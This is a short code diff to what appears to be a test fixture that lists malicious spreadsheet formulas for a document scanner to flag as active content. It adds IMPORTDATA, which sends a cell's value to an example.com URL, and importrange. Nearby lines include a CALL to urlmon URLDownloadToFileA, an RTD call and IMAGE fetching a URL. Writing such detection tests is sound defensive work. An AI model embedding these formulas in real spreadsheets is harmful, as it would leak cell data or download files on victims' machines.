@@ -189,6 +189,8 @@ BAD_SHEETS: dict[str, tuple[str, Maker, str]] = {
         ACTIVE,
     ),
     "picture by a formula": ("xlsx", _formula('_xlfn.IMAGE("http://example.com/a")'), ACTIVE),
+    "import of a table": ("xlsx", _formula('IMPORTDATA("http://example.com/?"&amp;A1)'), ACTIVE),
+    "import of a sheet": ("xlsx", _formula('importrange("a","b")'), ACTIVE),
     "live data": ("xlsx", _formula('RTD("a.b","","c")'), ACTIVE),
     "call": ("xlsx", _formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'), ACTIVE),
     "web service in a name": (
